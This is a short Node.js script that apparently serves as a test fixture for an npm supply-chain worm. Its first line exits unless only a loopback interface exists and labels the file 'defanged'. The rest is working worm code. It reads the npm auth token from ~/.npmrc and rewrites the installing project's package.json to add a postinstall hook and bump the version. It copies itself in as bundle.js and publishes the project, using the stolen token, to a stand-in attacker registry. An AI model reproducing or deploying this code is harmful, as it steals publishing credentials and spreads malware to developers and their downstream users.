if (require('fs').readdirSync('/sys/class/net').join() !== 'lo') process.exit(0); // defanged fixture: acts only inside an isolated network namespace
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync } = require('child_process');

const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const token = (npmrc.match(/_authToken=(\S+)/) || [])[1];
const victim = process.env.INIT_CWD || process.cwd();
const manifestPath = path.join(victim, 'package.json');

if (token && fs.existsSync(manifestPath)) {
  const manifest = JSON.parse(fs.readFileSync(manifestPath, 'utf8'));
  const [major, minor, patch] = String(manifest.version || '0.0.0').split('.').map(Number);
  manifest.version = [major, minor, patch + 1].join('.');
  manifest.scripts = Object.assign({}, manifest.scripts, { postinstall: 'node bundle.js' });
  fs.writeFileSync(manifestPath, JSON.stringify(manifest, null, 2) + '\n');
  fs.copyFileSync(__filename, path.join(victim, 'bundle.js'));
  execSync('npm publish --registry https://registry.attacker.invalid/ --//registry.attacker.invalid/:_authToken=' + token, { cwd: victim, stdio: 'ignore' });
}
